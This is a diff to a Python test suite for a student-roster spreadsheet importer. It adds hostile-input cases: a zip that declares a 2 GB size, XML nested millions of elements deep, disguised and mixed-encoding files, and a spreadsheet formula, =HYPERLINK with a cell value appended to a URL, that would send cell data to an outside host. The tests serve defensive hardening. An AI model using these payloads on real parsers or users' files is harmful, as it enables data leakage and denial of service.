@@ -22,7 +22,20 @@ from aidcases.crypto import SealBroken, open_sealed, write_sealed
 from students.imports import sheets
 from students.imports.reader import Limits, Refused, read_roster
 from students.imports.sandbox import started
-from tests.students.spreadsheets import ONE, RING, ROLL, SHEET, names, read, rezipped, shared, sheet_xml, texts, xlsx
+from tests.students.spreadsheets import (
+    ONE,
+    RING,
+    ROLL,
+    SHEET,
+    TWO,
+    names,
+    read,
+    rezipped,
+    shared,
+    sheet_xml,
+    texts,
+    xlsx,
+)
 
 
 def _bomb() -> bytes:
@@ -70,6 +83,29 @@ def _locked() -> bytes:
     return bytes(content)
 
 
+def _huge() -> bytes:
+    """A sheet that says it unpacks to 2 GB, in the zip's table of contents and at its start."""
+    content = xlsx([ROLL, *[ONE] * 50])
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        size = archive.getinfo(SHEET).file_size
+    return content.replace(struct.pack("<I", size), struct.pack("<I", 2 << 30))
+
+
+def _nested(part: str, depth: int) -> Callable[[], bytes]:
+    """Elements inside elements, as deep as memory goes in a careless parser."""
+    return lambda: rezipped(shared([ROLL, ONE]), **{part: lambda data: data[:-1] + b"x>" + b"<a>" * depth})
+
+
+def _pictures() -> bytes:
+    """A scan pasted into an empty sheet."""
+    return rezipped(xlsx([]), image1=b"\x89PNG\r\n\x1a\n" + bytes(3000))
+
+
+def _mixed() -> bytes:
+    """One half in UTF-8, the other in GBK, as two files joined by hand."""
+    return "\n".join((",".join(ROLL), ",".join(ONE))).encode() + b"\n" + ",".join(TWO).encode("gbk") + b"\xff\xff\n"
+
+
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
 HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
     "zip bomb": (_bomb, "a.xlsx", "太大"),
@@ -98,6 +134,21 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
         "a.xls",
         "另存为 .xlsx",
     ),
+    "2 GB declared": (_huge, "a.xlsx", "太大"),
+    "a million elements deep": (_nested("workbook", 1_000_000), "a.xlsx", "损坏"),
+    "a sheet three million deep": (lambda: _spelled(lambda _: sheet_xml("<a>" * 3_000_000)), "a.xlsx", "损坏"),
+    "pictures only": (_pictures, "a.xlsx", "没有文字"),
+    "a page without a table": (lambda: "<html><body><p>请登录</p></body></html>".encode(), "台账.xls", "没有文字"),
+    "a page of gifts": (lambda: b"<html><table>" + b"<tr><td>x" * 3 + b"</html>", "台账.xls", "没有找到表头"),
+    "mixed encodings": (_mixed, "a.csv", "文字读不出来"),
+    "a csv that is called xlsx is read, but not this": (lambda: b"\0" * 5000, "a.xlsx", "损坏"),
+    "wps in disguise": (lambda: OLE + "ETExtData".encode("utf-16-le"), "a.xls", "另存为 .xlsx"),
+    "spreadsheet of OpenOffice": (
+        lambda: rezipped(xlsx([ROLL]), _Content_Types_=None, mimetype=b"application/vnd.oasis.opendocument.spreadsheet"),
+        "a.ods",
+        "不是 Excel",
+    ),
+    "a template with macros": (lambda: xlsx([ROLL, ONE]), "a.xltm", "宏"),
     "no utf-8": (lambda: _spelled(lambda xml: xml.replace("姓".encode(), b"\xff\xfe")), "a.xlsx", "损坏"),
     "unended": (lambda: _spelled(lambda xml: xml[:-30]), "a.xlsx", "损坏"),
     "string out of range": (
@@ -117,6 +168,20 @@ class TestHostileFiles:
         [sentence] = caught.value.reasons
         assert part in sentence
         assert sentence.endswith("。")
+
+    def test_a_nul_far_into_a_csv_is_a_blank_like_any_other(self, tmp_path: Path):
+        lines = [",".join(ROLL), *[",".join(ONE)] * 200, ",".join(TWO).replace("杨", "杨\0")]
+        assert names(read("\n".join(lines).encode(), "roll", tmp_path, "a.csv"))[-1] == "杨然欣"
+
+    def test_a_wrong_extension_is_read_for_what_it_is(self, tmp_path: Path):
+        assert names(read(xlsx([ROLL, ONE]), "roll", tmp_path, "名单.csv")) == ["杨宇"]
+        assert names(read("\n".join((",".join(ROLL), ",".join(ONE))).encode("gbk"), "roll", tmp_path, "a.xlsx")) == ["杨宇"]
+
+    def test_what_a_formula_would_do_is_kept_as_text(self, tmp_path: Path):
+        evil = '=HYPERLINK("http://x/?"&A1,"ok")'
+        row = [*ONE[:1], evil, *ONE[2:]]
+        assert names(read("\n".join((",".join(ROLL), ",".join(f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in row)))
+                          .encode(), "roll", tmp_path, "a.csv")) == [evil]  # fmt: skip
 
     def test_one_cell_in_the_last_corner_is_no_danger(self, tmp_path: Path):
         rows = texts(1, ROLL) + texts(2, ONE) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
@@ -219,7 +284,8 @@ class TestProcess:
     def test_it_can_write_no_file_and_drop_no_core(self, long: Path):
         with open_sealed(long, RING) as source:
             order = {"task": "read", "keys": RING.dump(), "kind": "roll", "file_id": 1, "filename": "a.xlsx"}
-            with started({**order, "today": "2026-11-21", "look_only": False}, source, Limits()) as child:
+            order |= {"today": "2026-11-21", "look_only": False, "choice": None, "saved": {}}
+            with started(order, source, Limits()) as child:
                 child.first()
                 text = Path(f"/proc/{child._process.pid}/limits").read_text()
         limits = dict(re.findall(r"^Max (.+?) {2,}(\S+)", text, re.MULTILINE))
